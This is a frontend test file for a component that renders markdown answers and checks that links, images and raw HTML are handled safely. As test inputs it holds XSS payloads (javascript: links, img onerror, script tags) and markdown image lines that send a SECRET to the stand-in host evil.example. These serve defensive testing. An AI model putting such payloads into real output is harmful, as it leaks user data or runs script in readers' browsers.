import { screen } from '@testing-library/react';
import { renderScreen } from '@portal/shared/testing';
import { AnswerText } from './answer-text';

const draw = (content: string) => renderScreen(<AnswerText content={content} id="a" />);

describe('the text of an answer', () => {
  test('markdown is drawn: emphasis, lists, tables and quotes', () => {
    draw('> **Bold** text\n\n- one\n- two\n\n| a | b |\n| --- | --- |\n| 1 | 2 |');
    expect(screen.getByText('Bold').tagName).toBe('STRONG');
    expect(screen.getAllByRole('listitem')).toHaveLength(2);
    expect(screen.getByRole('cell', { name: '2' })).toBeInTheDocument();
  });

  test('links open in a new tab without an opener', () => {
    draw('[Users](/help/en/users#sort)');
    const link = screen.getByRole('link', { name: /^Users/ });
    expect(link).toHaveAttribute('href', '/help/en/users#sort');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  test('a link to another site shows its host', () => {
    draw('[My bank](https://evil.example/login) and [home](/home)');
    expect(screen.getByRole('link', { name: /My bank \(evil\.example\)/ })).toBeInTheDocument();
    expect(screen.getByRole('link', { name: /^home \(opens/ })).toBeInTheDocument();
  });

  test.each([
    '[x](javascript:alert(1))',
    '[x](data:text/html,1)',
    '[x](//evil.example)',
    '<javascript:alert(1)>',
    '[x](/api/v1/me)',
  ])('no link is made of %s', (content) => {
    draw(content);
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
  });

  test.each([
    '![a](https://evil.example/?d=SECRET)',
    '![a][1]\n\n[1]: https://evil.example/?d=SECRET',
    '| ![a](https://evil.example/?d=SECRET) |\n| --- |',
    'a[^1]\n\n[^1]: ![a](https://evil.example/?d=SECRET)',
  ])('an image stays text and is never fetched: %s', (content) => {
    draw(content);
    expect(screen.queryByRole('img')).not.toBeInTheDocument();
    expect(screen.getByText(/Image: a/)).toBeInTheDocument();
  });

  test('raw HTML stays text', () => {
    draw('<img src=x onerror=alert(1)> <b id="remote_chat">b</b>\n\n<script>alert(1)</script>');
    expect(screen.queryByRole('img')).not.toBeInTheDocument();
    expect(document.body.innerHTML).not.toMatch(/<script|<b |onerror=alert\(1\)>/);
  });

  test('headings of an answer are no headings of the page', () => {
    draw('# Title');
    expect(screen.queryByRole('heading')).not.toBeInTheDocument();
    expect(screen.getByText('Title')).toBeInTheDocument();
  });
});
